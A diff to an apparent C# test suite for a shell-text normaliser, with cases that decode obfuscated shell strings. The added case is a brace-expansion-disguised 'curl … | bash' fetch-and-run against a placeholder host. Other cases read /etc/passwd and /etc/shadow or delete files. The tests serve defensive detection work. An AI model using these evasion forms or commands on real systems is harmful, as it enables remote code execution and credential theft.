@@ -24,6 +24,7 @@ public sealed class ShellTextTests
         { "positional parameters", "c$@at /e${@}tc/pa$*sswd", "cat /etc/passwd" },
         { "a list in braces", "{cat,/etc/passwd}", "cat /etc/passwd" },
         { "a prefix and a list", "/bin/{rm,} -rf /tmp/x", "/bin/rm" },
+        { "a URL in a list", "{curl,-s,http://x.example/p}|{bash,}", "curl -s http://x.example/p|bash" },
         { "a suffix", "/etc/{shadow,x}.bak", "/etc/shadow.bak" },
         { "nested lists", "{c{a,u}t,/etc/passwd}", "cat" },
         { "redirected input", "cat</etc/passwd", "cat < /etc/passwd" },
